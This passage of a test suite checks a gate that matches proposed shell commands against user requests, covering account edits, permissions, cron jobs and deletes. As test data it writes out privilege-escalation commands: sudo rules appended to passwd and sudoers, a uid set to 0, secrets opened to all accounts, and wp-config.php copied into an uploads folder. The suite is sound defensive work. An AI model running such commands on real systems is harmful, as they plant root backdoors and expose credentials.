    ['the request does not speak of accounts', 'note deploy in the passwd file', "echo 'deploy:x:1500:1500::/home/deploy:/bin/sh' >> /etc/passwd", [path('/etc/passwd', 'file')]],
    ['the appended line is not an entry', 'create a user deploy', "echo 'deploy ALL=(ALL) NOPASSWD: ALL' >> /etc/passwd", [path('/etc/passwd', 'file')]],
    ['the substitution touches ids', "change user's uid to 1600", "sed -i '/^user:/s/1000/1600/' /etc/passwd", [path('/etc/passwd', 'file')]],
    ['the substitution spans fields with a wildcard', "change user's shell", "sed -i '/^user:/s#:.*$#:/bin/ash#' /etc/passwd", [path('/etc/passwd', 'file')]],
    ['the substitution is not limited to one account', "change user's login shell to /bin/ash", "sed -i 's#:/bin/sh$#:/bin/ash#' /etc/passwd", [path('/etc/passwd', 'file')]],
    ['the account file is a link', 'create a user deploy', "echo 'deploy:x:1500:1500::/home/deploy:/bin/sh' >> /etc/passwd", [path('/etc/passwd', 'link', { linkTarget: '/srv/passwd' })]],
    ['the new account\'s home already holds data', 'create a user deploy', "adduser -D deploy && chown deploy /home/deploy", [path('/home/deploy', 'dir', { entries: 3 })]],
    ['an account is deleted', 'delete the user bob', 'userdel -r bob', []],
    ['the uid it gives is held by another account', 'add a user svc with uid 1001', 'useradd -u 1001 svc', [{ probe: 'account-id', target: 'passwd:svc', ok: true, value: { id: '1001', holder: 'alice', exists: false } }]],
    ['the uid it gives was not looked up', 'add a user svc with uid 1001', 'useradd -u 1001 svc', []],
  ])('says nothing when %s', (_why, request, command, probes) => {
    expect(reason(request, command, probes)).toBeUndefined();
  });

  it('counts a mode the request spells out, decoding and replacing a file with another as asked', () => {
    expect(reason('fix the permissions in /srv/www: 755 for directories, 644 for files', 'find /srv/www -type d -exec chmod 755 {} + && find /srv/www -type f -exec chmod 644 {} +', [path('/srv/www', 'dir')])).toMatch(/changes the mode of/);
    expect(reason('install /srv/build/agent into /opt/mon/bin and make it executable', 'cp /srv/build/agent /opt/mon/bin/agent && chmod 755 /opt/mon/bin/agent', [path('/srv/build/agent', 'file'), path('/opt/mon/bin/agent', 'none'), path('/opt/mon/bin', 'dir')])).toMatch(/only writes and changes the mode of/);
    expect(reason('decode /srv/inbox/a.b64 into /srv/inbox/a.bin', 'base64 -d /srv/inbox/a.b64 > /srv/inbox/a.bin', [path('/srv/inbox/a.b64', 'file'), path('/srv/inbox/a.bin', 'none')])).toMatch(/only writes/);
    expect(reason('replace /srv/site/index.html with the new version in /srv/site/index.new.html', 'mv -f /srv/site/index.new.html /srv/site/index.html', [path('/srv/site/index.new.html', 'file'), path('/srv/site/index.html', 'file')])).toMatch(/only deletes and writes/);
    // a mode others may read that the request does not spell out is still not asked
    expect(reason('fix the permissions in /srv/www', 'chmod -R 644 /srv/www', [path('/srv/www', 'dir')])).toBeUndefined();
  });

  it('lets accounts the request names be added or changed, through the account files or the account commands', () => {
    expect(reason('create a user deploy with uid and gid 1500', "echo 'deploy:x:1500:1500::/home/deploy:/bin/sh' >> /etc/passwd && echo 'deploy:x:1500:' >> /etc/group", [path('/etc/passwd', 'file'), path('/etc/group', 'file'), freeId('passwd:deploy', '1500'), freeId('group:deploy', '1500')])).toMatch(/only writes and changes what the request names and asks for \(account deploy\)/);
    expect(reason("change user's login shell to /bin/ash", "sed -i '/^user:/s#:/bin/sh$#:/bin/ash#' /etc/passwd", [path('/etc/passwd', 'file')])).toMatch(/account user/);
    expect(reason('add a user deploy with home /home/deploy', "adduser -D -h /home/deploy deploy && mkdir -p /home/deploy && chown deploy:deploy /home/deploy", [path('/home/deploy', 'none')])).toMatch(/\/home\/deploy/);
    expect(reason("set bob's shell to /bin/ash", 'usermod -s /bin/ash bob', [])).toMatch(/changes what the request names and asks for \(account bob\)/);
    expect(reason('add a user svc with uid 1001', 'useradd -u 1001 svc', [freeId('passwd:svc', '1001')])).toMatch(/account svc/);
  });

  it('reads the line-tail form of a shell change, a tighter mode inside a folder the request speaks of, an archive beside its folder, and "replacing"', () => {
    // the account's last field only, every colon kept inside the group
    expect(reason("disable intern's logins", "sed -i 's#^\\(intern:.*:\\)/bin/sh$#\\1/usr/sbin/nologin#' /etc/passwd", [path('/etc/passwd', 'file')])).toMatch(/account intern/);
    expect(reason("disable intern's logins", "sed -i 's#^\\(intern:.*:\\).*$#\\1/usr/sbin/nologin#' /etc/passwd", [path('/etc/passwd', 'file')])).toBeUndefined();
    expect(reason("disable intern's logins", "sed -i 's#^\\(intern:.*:\\)/bin/sh$#\\1x:0#' /etc/passwd", [path('/etc/passwd', 'file')])).toBeUndefined();
    // the fields before the home kept whole in the group, the home replaced; never the ids
    const home = (cmd: string) => reason('give the labfeed service account a real home, /var/lib/labfeed instead of /nonexistent in passwd', cmd, [path('/etc/passwd', 'file')]);
    expect(home("sed -i 's|^\\(labfeed:x:212:212:[^:]*:\\)/nonexistent:|\\1/var/lib/labfeed:|' /etc/passwd")).toMatch(/account labfeed/);
    expect(home("sed -i 's|^\\(labfeed:x:\\)212:|\\10:|' /etc/passwd")).toBeUndefined();
    expect(home("sed -i 's|^\\(labfeed:x:212:212:[^:]*:\\)/nonexistent:|\\1/var/lib/labfeed:x:|' /etc/passwd")).toBeUndefined();
    // a home handed to the account it is named for, which the request names; not to another account
    const given = (cmd: string) => reason("new groomer ahuber's home /home/ahuber got created as root, chown it to her recursively", cmd, [path('/home/ahuber', 'dir')]);
    expect(given('chown -R ahuber:ahuber /home/ahuber')).toMatch(/changes the owner of/);
    expect(given('chown -R user:user /home/ahuber')).toBeUndefined();
    // "ssh refuses my key, fix the perms": tightening the key inside ~/.ssh, not opening it
    const ssh = (mode: string) => reason("ssh keeps refusing my key, can you fix the perms", `chmod 700 ~/.ssh && chmod ${mode} ~/.ssh/id_rsa`, [path('/home/user/.ssh', 'dir'), path('/home/user/.ssh/id_rsa', 'file', { mode: '644' })], true, 'user');
    expect(ssh('600')).toMatch(/changes the mode of/);
    expect(ssh('644')).toBeUndefined();
    // a tarball of a named folder, made beside it, then the folder deleted
    const packed = (archive: string) => reason('archive ~/old-proj into a tarball in my home and then delete the folder', `tar czf ${archive} -C ~ old-proj && rm -rf ~/old-proj`, [path('/home/user/old-proj', 'dir'), path(archive.replace('~', '/home/user'), 'none'), path('/home/user', 'dir')], true, 'user');
    expect(packed('~/old-proj.tar.gz')).toMatch(/only deletes and writes/);
    expect(packed('~/notes.tar.gz')).toBeUndefined();
    expect(reason('install /etc/app/app.conf.new as the live app.conf, replacing the old one', 'mv /etc/app/app.conf.new /etc/app/app.conf', [path('/etc/app/app.conf.new', 'file'), path('/etc/app/app.conf', 'file'), path('/etc/app', 'dir')])).toMatch(/only deletes and writes/);
  });

  it('counts a pattern made executable with 755 as asked when every match was readable by others already', () => {
    const scripts = '/opt/deploy/bin/*.sh';
    const seen = (...modes: string[]): ProbeResult[] => [
      path('/opt/deploy/bin', 'dir'),
      { probe: 'glob', target: scripts, ok: true, value: modes.map((_, i) => `/opt/deploy/bin/s${i}.sh`) },
      { probe: 'glob-modes', target: scripts, ok: true, value: modes },
    ];
    const ask = 'make the scripts in /opt/deploy/bin executable';
    expect(reason(ask, `chmod 755 ${scripts}`, seen('644', '644'))).toMatch(/changes the mode of/);
    // one match others could not read, modes not listed, or a listing cut short: not asked
    expect(reason(ask, `chmod 755 ${scripts}`, seen('644', '600'))).toBeUndefined();
    expect(reason(ask, `chmod 755 ${scripts}`, seen('644', '644').slice(0, 2))).toBeUndefined();
    expect(reason(ask, `chmod 755 ${scripts}`, [...seen('644', '644').slice(0, 2), { probe: 'glob-modes', target: scripts, ok: false, error: '40 matches, 20 listed' }])).toBeUndefined();
  });

  it('reads "the hosts file", an emptied named /etc file, "nuke", a setting named by its words and a secret closed to a named group', () => {
    expect(reason('add 10.0.0.5 db.internal to the hosts file', "echo '10.0.0.5 db.internal' >> /etc/hosts", [path('/etc/hosts', 'file')])).toMatch(/only writes what the request names and asks for \(\/etc\/hosts\)/);
    // a file called by its name must be a plain file of its own, and sudo, cron and login places never count
    expect(reason('add 10.0.0.5 db.internal to the hosts file', "echo '10.0.0.5 db.internal' >> /etc/hosts", [path('/etc/hosts', 'link')])).toBeUndefined();
    expect(reason('add a line to the sudoers file', "echo 'bob ALL=(ALL) ALL' >> /etc/sudoers", [path('/etc/sudoers', 'file')])).toBeUndefined();
    expect(reason('disable the banner by emptying /etc/motd', 'truncate -s 0 /etc/motd', [path('/etc/motd', 'file')])).toMatch(/\/etc\/motd/);
    expect(reason('node_modules in /srv/shop is broken, nuke it', 'rm -rf /srv/shop/node_modules', [path('/srv/shop/node_modules', 'dir')])).toMatch(/only deletes/);
    const sshd = [path('/etc/ssh', 'dir'), path('/etc/ssh/sshd_config', 'file')];
    expect(reason('turn off ssh password authentication', "sed -i 's/^#*PasswordAuthentication .*/PasswordAuthentication no/' /etc/ssh/sshd_config", sshd)).toMatch(/sshd_config/);
    // a setting the request does not spell out leaves the file unnamed
    expect(reason('turn off ssh password authentication', "sed -i 's/^#*PermitRootLogin .*/PermitRootLogin no/' /etc/ssh/sshd_config", sshd)).toBeUndefined();
    // a key's word that only says it switches something ("permit") need not be said
    expect(reason('disable root login over ssh on this host', "sed -i 's/^PermitRootLogin yes$/PermitRootLogin no/' /etc/ssh/sshd_config", sshd)).toMatch(/sshd_config/);
    expect(reason('disable login over ssh on this host', "sed -i 's/^PermitRootLogin yes$/PermitRootLogin no/' /etc/ssh/sshd_config", sshd)).toBeUndefined();
    const key = [path('/etc/app/secret.key', 'file', { mode: '644' })];
    expect(reason('/etc/app/secret.key is world readable. make it readable only by root and the app group', 'chown root:app /etc/app/secret.key && chmod 640 /etc/app/secret.key', key)).toMatch(/changes the mode of and changes the owner of/);
    // to a group the request does not name, or opened to others, it is not closing
    expect(reason('/etc/app/secret.key is world readable. make it readable only by root and the app group', 'chown root:web /etc/app/secret.key && chmod 640 /etc/app/secret.key', key)).toBeUndefined();
    expect(reason('/etc/app/secret.key is world readable. make it readable only by root and the app group', 'chown root:app /etc/app/secret.key && chmod 644 /etc/app/secret.key', key)).toBeUndefined();
  });

  it('lets a folder be opened for every account to write to when the request asks for exactly that', () => {
    const seen = [path('/srv', 'dir'), path('/srv/drop', 'none')];
    const ask = "Create a shared drop folder /srv/drop that every account can write to, but where people can't delete each other's files.";
    expect(reason(ask, 'mkdir -p /srv/drop && chmod 1777 /srv/drop', seen)).toMatch(/changes the mode of what the request names/);
    // a request that says nothing of others writing does not ask for it
    expect(reason('create a drop folder /srv/drop', 'mkdir -p /srv/drop && chmod 1777 /srv/drop', seen)).toBeUndefined();
    expect(reason('let every account read /srv/drop', 'chmod 777 /srv/drop', [path('/srv/drop', 'dir')])).toBeUndefined();
  });

  it("adds a job to the account's crontab when the request names its program and the jobs there are read back in", () => {
    const add = "(crontab -l 2>/dev/null; echo '30 2 * * * /usr/local/bin/backup.sh') | crontab -";
    expect(reason("Add a nightly 02:30 job for /usr/local/bin/backup.sh to root's crontab", add, [])).toMatch(/only adds jobs running "\/usr\/local\/bin\/backup.sh" to the crontab/);
    // a program the request does not name, a table replaced, or a job that itself deletes
    expect(reason("Add a nightly 02:30 job for the backup to root's crontab", add, [])).toBeUndefined();
    expect(reason("Add a nightly 02:30 job for /usr/local/bin/backup.sh to root's crontab", "echo '30 2 * * * /usr/local/bin/backup.sh' | crontab -", [])).toBeUndefined();
    // (a job whose line is itself the delete is asked only when the request names what it deletes)
    expect(reason("Add a nightly job that clears the cache to root's crontab", "(crontab -l; echo '0 3 * * * rm -rf /srv/cache') | crontab -", [])).toBeUndefined();
    // appended to an account's table file, while the environment shows it a plain file
    const append = "echo '0 2 * * * /home/user/bin/backup.sh' >> /var/spool/cron/crontabs/user";
    const ask = 'add a cron job for user that runs /home/user/bin/backup.sh every night at 2am';
    expect(reason(ask, append, [path('/var/spool/cron/crontabs/user', 'file')])).toMatch(/only adds jobs running "\/home\/user\/bin\/backup.sh"/);
    expect(reason(ask, append, [path('/var/spool/cron/crontabs/user', 'link')])).toBeUndefined();
    expect(reason(ask, append.replace('>>', '>'), [path('/var/spool/cron/crontabs/user', 'file')])).toBeUndefined();
  });

  it('decides allow on the facts, but never past a failing check', () => {
    const req: ActionRequest = { request: 'clear the build cache in /srv/cache/build', action: { type: 'shell', command: 'rm -rf /srv/cache/build' }, context: { user: 'root' } };
    const facts = { ...extractFacts(req), askedChange: 'it only deletes what the request names' };
    expect(decide({ facts, checks: [], pHarm: 0.99, sBenign: 0.1 }, DEFAULT_GATE)).toMatchObject({ kind: 'final', decision: 'allow', path: 'fast' });
    expect(decide({ facts, checks: [{ id: 'x', title: 'x', status: 'fail', severity: 'soft' }], pHarm: 0.99, sBenign: 0.1 }, DEFAULT_GATE)).not.toMatchObject({ decision: 'allow' });
    expect(decide({ facts, checks: [{ id: 'y', title: 'y', status: 'fail', severity: 'hard' }], pHarm: 0.1, sBenign: 0.9 }, DEFAULT_GATE)).toMatchObject({ decision: 'deny', path: 'check' });
  });
});

describe('account and setting changes read from the command line', () => {
  const accounts = (names: string[]): ProbeResult[] => names.map((n) => path(n, 'file'));

  it('reads passwd -l and usermod -L as locking the one account they name, asked when the request names it', () => {
    for (const command of ['passwd -l ci-bot', 'usermod -L ci-bot']) {
      const facts = extractFacts({ request: 'lock the ci-bot account for now', action: { type: 'shell', command }, context: { user: 'root' } });
      expect(facts.effects.privilege).toEqual([{ kind: 'account-change', detail: 'locks the password of account ci-bot', account: 'ci-bot' }]);
      expect(reason('lock the ci-bot account for now', command, [])).toMatch(/account ci-bot/);
      expect(reason('lock the build account for now', command, [])).toBeUndefined();
    }
    // root's own password is another matter
    expect(extractFacts({ request: 'lock root', action: { type: 'shell', command: 'passwd -l root' }, context: { user: 'root' } }).effects.privilege).not.toContainEqual(expect.objectContaining({ account: 'root' }));
  });

  it('takes several accounts out with one sed, one -e (or one ;-joined script) each, and their homes when the request asks for them', () => {
    const command = "sed -i -e '/^qa1:/d' -e '/^qa2:/d' /etc/passwd /etc/group && rm -rf /home/qa1 /home/qa2";
    const req = { request: 'remove the qa1 and qa2 accounts and their homes', action: { type: 'shell' as const, command }, context: { user: 'root' } };
    const facts = extractFacts(req);
    expect(facts.effects.privilege.filter((p) => p.removes).map((p) => p.account)).toEqual(['qa1', 'qa2', 'qa1', 'qa2']);
    expect(facts.effects.deletes.every((d) => d.inScope)).toBe(true);
    const probes = [...accounts(['/etc/passwd', '/etc/group']), path('/home/qa1', 'dir'), path('/home/qa2', 'dir')];
    expect(reason(req.request, command, probes)).toMatch(/\/home\/qa1, \/home\/qa2/);
    expect(extractFacts({ ...req, action: { type: 'shell', command: "sed -i '/^qa1:/d;/^qa2:/d' /etc/passwd" } }).effects.privilege.map((p) => p.account)).toEqual(['qa1', 'qa2']);
    // one script among them that does something else makes it a plain edit of the file
    expect(extractFacts({ ...req, action: { type: 'shell', command: "sed -i -e '/^qa1:/d' -e 's/x/y/' /etc/passwd" } }).effects.privilege.some((p) => p.removes)).toBe(false);
    // a home the request does not ask for stays out of scope
    expect(extractFacts({ ...req, request: 'remove the qa1 and qa2 accounts' }).effects.deletes.some((d) => d.inScope)).toBe(false);
  });

  it('names a one-word setting only with its old and new values in the request', () => {
    const conf = '/etc/svc/main.conf';
    const probes = [path(conf, 'file')];
    expect(reason('change the listen port from 8080 to 9090', `sed -i 's/^port=8080$/port=9090/' ${conf}`, probes)).toMatch(/main\.conf/);
    expect(reason('set the port to 9090', `sed -i 's/^port=.*/port=9090/' ${conf}`, probes)).toMatch(/main\.conf/);
    // another value than the one asked for, or another key's line, is not the setting named
    expect(reason('change the listen port from 8080 to 9090', `sed -i 's/^port=8080$/port=9999/' ${conf}`, probes)).toBeUndefined();
    expect(reason('change the listen port from 8080 to 9090', `sed -i 's/^admin_port=8080$/port=9090/' ${conf}`, probes)).toBeUndefined();
    // the key's own line, commented out or not (`^#\?Port `, `^#*Port`, `^[# ]*Port`)
    const sshd = '/etc/ssh/sshd_config';
    for (const pattern of ['^#\\?Port .*', '^#*Port .*', '^[# ]*Port .*']) {
      expect(reason('change sshd to listen on port 2222 instead of 22', `sed -i 's/${pattern}/Port 2222/' ${sshd}`, [path(sshd, 'file')])).toMatch(/sshd_config/);
    }
    expect(reason('change sshd to listen on port 2222 instead of 22', `sed -i 's/^#\\?ListenPort .*/Port 2222/' ${sshd}`, [path(sshd, 'file')])).toBeUndefined();
  });

  it("puts a program's rotated logs in scope when the request names the program and its rotated logs", () => {
    const find = (request: string, folder = '/var/log/nginx') => extractFacts({ request, action: { type: 'shell', command: `find ${folder} -name '*.gz' -mtime +14 -exec rm -f {} +` }, context: { user: 'root' } }).effects.deletes[0];
    expect(find('delete the rotated nginx logs older than 2 weeks')).toMatchObject({ inScope: true });
    // another program's folder, or no word for rotated copies, stays out
    expect(find('delete the rotated nginx logs older than 2 weeks', '/var/log/mysql')).toMatchObject({ inScope: false });
    expect(find('delete the nginx logs older than 2 weeks')).toMatchObject({ inScope: false });
  });

  it('puts a find pattern of a kind the request names in scope over the home it speaks of', () => {
    const req = (request: string, name: string) => extractFacts({ request, action: { type: 'shell', command: `find ~ -type f -name '${name}' -exec rm -f {} +` }, context: { user: 'user', cwd: '/home/user' } });
    expect(req('my home is full of core dumps, delete them', 'core.[0-9]*').effects.deletes[0]).toMatchObject({ inScope: true });
    // a pattern that is not of that kind, or no word for the place, stays out
    expect(req('my home is full of core dumps, delete them', '*.c').effects.deletes[0]).toMatchObject({ inScope: false });
    expect(req('delete the core dumps', 'core.[0-9]*').effects.deletes[0]).toMatchObject({ inScope: false });
  });

  it("makes, hands over and closes the new home of an account the same command adds and the request names", () => {
    const add = "echo 'intern:x:1002:1002:intern:/home/intern:/bin/sh' >> /etc/passwd && echo 'intern:x:1002:' >> /etc/group && mkdir -p /home/intern";
    const probes = [path('/etc/passwd', 'file'), path('/etc/group', 'file'), path('/home/intern', 'none'), freeId('passwd:intern', '1002'), freeId('group:intern', '1002')];
    expect(reason('make a login for the new intern, username intern', `${add} && chown 1002:1002 /home/intern && chmod 750 /home/intern`, probes)).toMatch(/account intern/);
    // handed to another account, or opened to everyone, it is not the new account's own home
    const other = extractFacts({ request: 'make a login for the new intern, username intern', action: { type: 'shell', command: `${add} && chown 1001:1001 /home/intern && chmod 777 /home/intern` }, context: { user: 'root', cwd: '/root' } });
    expect(other.effects.ownerChanges.map((o) => o.inScope)).toEqual([false]);
    expect(other.effects.modeChanges.map((m) => m.inScope)).toEqual([false]);
  });
});

describe('changes asked for in plainer words (the twenty-first set)', () => {
  it('names a program whose name joins its parts by how the request says it, and not a program named otherwise', () => {
    expect(reason("My JupyterLab server is frozen and won't respond. Kill it.", 'kill -9 $(pidof jupyter-lab)', [])).toMatch(/signals/);
    expect(reason('My jupyter lab server is frozen. Kill it.', 'kill -9 $(pidof jupyter-lab)', [])).toMatch(/signals/);
    expect(reason('My JupyterLab server is frozen. Kill it.', 'kill -9 $(pidof jupyter-notebook)', [])).toBeUndefined();
  });

  it('takes replacing a file with a link as asked, but not a link the request believes is there', () => {
    const probes = [path('/home/user/.vimrc', 'file'), path('/home/user/dotfiles/vimrc', 'file')];
    expect(reason('Replace my ~/.vimrc with a symlink to the version in my dotfiles repo.', 'ln -sf ~/dotfiles/vimrc ~/.vimrc', probes, true, 'user')).toMatch(/writes what the request names/);
    expect(reason('Point the ~/.vimrc symlink at the version in my dotfiles repo.', 'ln -sf ~/dotfiles/vimrc ~/.vimrc', probes, true, 'user')).toBeUndefined();
  });

  it('adds a job whose own line clears or archives the folder the request names, and not one that reaches past it', () => {
    const clear = "(crontab -l 2>/dev/null; echo '30 2 * * * rm -rf /var/cache/cms/render/*') | crontab -";
    const ask = 'add a nightly job for root at 2:30 that clears /var/cache/cms/render, keep the existing jobs';
    expect(reason(ask, clear, [])).toMatch(/only adds a job clearing \/var\/cache\/cms\/render\/\* to the crontab/);
    // the delete is the job's, not the action's: the same delete run now is not adding a job
    expect(reason(ask, `${clear} && rm -rf /var/cache/cms/render/*`, [])).toBeUndefined();
    // a table replaced, a folder the request does not name, or a system folder
    expect(reason(ask, "echo '30 2 * * * rm -rf /var/cache/cms/render/*' | crontab -", [])).toBeUndefined();
    expect(reason(ask, "(crontab -l 2>/dev/null; echo '30 2 * * * rm -rf /var/cache/cms/*') | crontab -", [])).toBeUndefined();
    expect(reason('add a nightly job that clears /var, keep the existing jobs', "(crontab -l; echo '30 2 * * * rm -rf /var/*') | crontab -", [])).toBeUndefined();
    const tar = "(crontab -l 2>/dev/null; echo '30 2 * * * tar -czf /backup/lab/lab-$(date +\\%F).tar.gz -C /srv lab') | crontab -";
    expect(reason('add a root cron job at 02:30 every night that tars /srv/lab into /backup/lab/lab-<date>.tar.gz. keep the existing jobs', tar, [])).toMatch(/only adds a job writing \/backup\/lab\//);
    expect(reason('add a root cron job at 02:30 every night that backs up the lab. keep the existing jobs', tar, [])).toBeUndefined();
  });

  it('adds a job for a script it makes executable as asked, with the output the job line sends to a log, when the script was readable by others already', () => {
    const script = '/usr/local/sbin/nightly-backup.sh';
    const command = `chmod 755 ${script} && (crontab -l 2>/dev/null; echo '30 2 * * * ${script} >> /var/log/nightly-backup.log 2>&1') | crontab -`;
    const ask = `Make ${script} executable and schedule it in root's crontab every day at 02:30.`;
    expect(reason(ask, command, [path(script, 'file', { mode: '644' })])).toMatch(/only adds jobs running/);
    // 755 would open a script only root could read: not what was asked
    expect(reason(ask, command, [path(script, 'file', { mode: '600' })])).toBeUndefined();
  });
});

describe('a named thing set aside beside itself', () => {
  it('takes moving a named profile folder to its own name with a backup ending as asked, not moving it elsewhere', () => {
    const ask = 'Firefox keeps crashing on startup. Move my profile folder ~/.mozilla out of the way (keep it as a backup) so it starts with a fresh one.';
    const probes = [path('/home/user/.mozilla', 'dir'), path('/home/user/.mozilla.bak-20240601', 'none'), path('/tmp/moz', 'none')];
    expect(reason(ask, 'mv ~/.mozilla ~/.mozilla.bak-20240601', probes, true, 'user')).toMatch(/what the request names/);
    expect(reason(ask, 'mv ~/.mozilla /tmp/moz', probes, true, 'user')).toBeUndefined();
  });
});

describe("the account's own history, cleared as asked", () => {
  it("takes emptying and deleting the account's own history files as asked, not another account's, and not when the request does not ask", () => {
    const ask = 'I accidentally pasted a database password into my terminal. Clear my shell history and my Python REPL history.';
    const command = ': > ~/.ash_history; : > ~/.bash_history; rm -f ~/.python_history';
    const probes = ['/home/user/.ash_history', '/home/user/.bash_history', '/home/user/.python_history'].map((p) => path(p, 'file'));
    expect(reason(ask, command, probes, true, 'user')).toMatch(/what the request names/);
    expect(reason('Tidy up my home folder.', command, probes, true, 'user')).toBeUndefined();
    expect(reason(ask, ': > /root/.ash_history', [path('/root/.ash_history', 'file')], true, 'user')).toBeUndefined();
  });
});

describe("a service account's new home", () => {
  it('takes making and handing over the data folder the request names as the new account home, not a folder that already holds data', () => {
    const ask = "Create a system account 'borg' (uid and gid 990) with home /var/lib/borg and no login shell.";
    const command = "echo 'borg:x:990:990::/var/lib/borg:/usr/sbin/nologin' >> /etc/passwd && echo 'borg:x:990:' >> /etc/group && mkdir -p /var/lib/borg && chown 990:990 /var/lib/borg && chmod 700 /var/lib/borg";
    const accounts = [path('/etc/passwd', 'file'), path('/etc/group', 'file'), freeId('passwd:borg', '990'), freeId('group:borg', '990')];
    expect(reason(ask, command, [...accounts, path('/var/lib/borg', 'none')])).toMatch(/account borg/);
    expect(reason(ask, command, [...accounts, path('/var/lib/borg', 'dir', { entries: 12 })])).toBeUndefined();
  });
});

describe('changes asked for in plainer words (the twenty-fourth set)', () => {
  it('reads "hand it over to" as asking for an owner change, and saying nothing of owners as not asking', () => {
    const probes = [path('/srv/www/uploads', 'dir')];
    expect(reason("PHP can't write into /srv/www/uploads. Hand it over to www-data.", 'chown -R www-data:www-data /srv/www/uploads', probes)).toMatch(/changes the owner of/);
    expect(reason("PHP can't write into /srv/www/uploads. Look into it.", 'chown -R www-data:www-data /srv/www/uploads', probes)).toBeUndefined();
  });

  it('lets a mode that only takes access away from an /etc file the request names by path through, not one every account must read', () => {
    const ask = (f: string) => `A security scan flagged ${f} as world-readable. Put its permissions back to something sane.`;
    expect(reason(ask('/etc/shadow'), 'chmod 600 /etc/shadow', [path('/etc/shadow', 'file', { mode: '644' })])).toMatch(/changes the mode of what the request names/);
    // logins and name lookups read /etc/passwd as every account
    expect(reason(ask('/etc/passwd'), 'chmod 600 /etc/passwd', [path('/etc/passwd', 'file', { mode: '644' })])).toBeUndefined();
    // opening it is no closing
    expect(reason(ask('/etc/shadow'), 'chmod 644 /etc/shadow', [path('/etc/shadow', 'file', { mode: '600' })])).toBeUndefined();
  });

  it('lets a mode that only takes access away reach a pattern of files in an /etc folder the request names, once every match is listed', () => {
    const ask = 'The security audit flagged the .key files in /etc/ssl/private as world-readable. Lock them down to 600.';
    const keys = '/etc/ssl/private/*.key';
    const listed = (matches: string[]): ProbeResult[] => [path('/etc/ssl/private', 'dir'), { probe: 'glob', target: keys, ok: true, value: matches }, ...matches.map((m) => path(m, 'file', { mode: '644' }))];
    expect(reason(ask, `chmod 600 ${keys}`, listed(['/etc/ssl/private/site.key', '/etc/ssl/private/mail.key']))).toMatch(/changes the mode of what the request names/);
    // not opening them, not a pattern the environment could not list, not one reaching a file every account reads
    expect(reason(ask, `chmod 644 ${keys}`, listed(['/etc/ssl/private/site.key']))).toBeUndefined();
    expect(reason(ask, `chmod 600 ${keys}`, [path('/etc/ssl/private', 'dir')])).toBeUndefined();
    // (a folder of secrets the request names by its path, in another account's home)
    const ssh = '/home/buildbot/.ssh/*';
    const sshListed = [path('/home/buildbot/.ssh', 'dir'), { probe: 'glob', target: ssh, ok: true, value: ['/home/buildbot/.ssh/authorized_keys', '/home/buildbot/.ssh/id_ed25519'] } as ProbeResult];
    expect(reason('ssh refuses the buildbot login, permissions too open. Fix /home/buildbot/.ssh: dir 700, files in it 600.', `chmod 600 ${ssh}`, sshListed)).toMatch(/changes the mode of/);
    expect(reason('ssh refuses the buildbot login, permissions too open. Fix /home/buildbot/.ssh: dir 700, files in it 644.', `chmod 644 ${ssh}`, sshListed)).toBeUndefined();
    // (not a system place but /etc)
    expect(reason('Lock the programs in /usr/local/bin down to 600.', 'chmod 600 /usr/local/bin/*', [path('/usr/local/bin', 'dir'), { probe: 'glob', target: '/usr/local/bin/*', ok: true, value: ['/usr/local/bin/a'] }])).toBeUndefined();
    expect(reason('Lock the files in /etc down to 600.', 'chmod 600 /etc/*', [path('/etc', 'dir'), { probe: 'glob', target: '/etc/*', ok: true, value: ['/etc/passwd', '/etc/shadow'] }])).toBeUndefined();
  });
});

describe('a web application settings file, which holds the database password', () => {
  it('counts wp-config.php as a secret: copied out unasked it is read, put back from the copy the request names it is asked', () => {
    const copied = extractFacts({ request: 'back up my site (public_html) into ~/backups please', action: { type: 'shell', command: 'cp ~/public_html/wp-config.php ~/public_html/uploads/wp-config.txt' }, context: { user: 'user', cwd: '/home/user' } });
    expect(copied.effects.reads).toContainEqual(expect.objectContaining({ path: '/home/user/public_html/wp-config.php', sensitive: true }));
    const ask = 'I broke wp-config.php editing it by hand. Restore it from ~/backups/wp-config.php.morning';
    const probes = [path('/home/user/public_html/wp-config.php', 'file'), path('/home/user/backups/wp-config.php.morning', 'file')];
    const cmd = 'cp ~/backups/wp-config.php.morning ~/public_html/wp-config.php';
    expect(reason(ask, cmd, probes, true, 'user')).toMatch(/only writes what the request names/);
    // not without asking to put it back, and not from a file that is no copy of it
    expect(reason('I broke wp-config.php editing it by hand. Use ~/backups/wp-config.php.morning', cmd, probes, true, 'user')).toBeUndefined();
    expect(reason('I broke wp-config.php. Restore it from ~/backups/other.php', 'cp ~/backups/other.php ~/public_html/wp-config.php', [path('/home/user/public_html/wp-config.php', 'file'), path('/home/user/backups/other.php', 'file')], true, 'user')).toBeUndefined();
  });
});

describe('changes asked for in plainer words (the twenty-fifth set)', () => {
  it('lets a login file the request names be tightened by number, not opened to others or given to a group to write', () => {
    const ask = 'sshd with StrictModes is ignoring my authorized_keys. Tighten the permissions on ~/.ssh and ~/.ssh/authorized_keys.';
    const probes = [path('/home/user/.ssh', 'dir', { mode: '777', owner: 'user' }), path('/home/user/.ssh/authorized_keys', 'file', { mode: '666', owner: 'user' })];
    expect(reason(ask, 'chmod 700 ~/.ssh && chmod 600 ~/.ssh/authorized_keys', probes, true, 'user')).toMatch(/changes the mode of what the request names/);
    expect(reason(ask, 'chmod 700 ~/.ssh && chmod 620 ~/.ssh/authorized_keys', probes, true, 'user')).toBeUndefined();
  });
});

describe('a mode given by its number', () => {
  it('is asked for by a request that gives that number, with no word for modes', () => {
    const dir = [path('/var/log/fplan', 'dir')];
    expect(reason('the fplan log dir should belong to fplan:adm with 750. fix /var/log/fplan', 'chown -R fplan:adm /var/log/fplan && chmod 750 /var/log/fplan', dir)).toMatch(/changes the mode of and changes the owner of/);
    expect(reason('the fplan log dir should belong to fplan:adm. fix /var/log/fplan', 'chown -R fplan:adm /var/log/fplan && chmod 750 /var/log/fplan', dir)).toBeUndefined();
  });
});
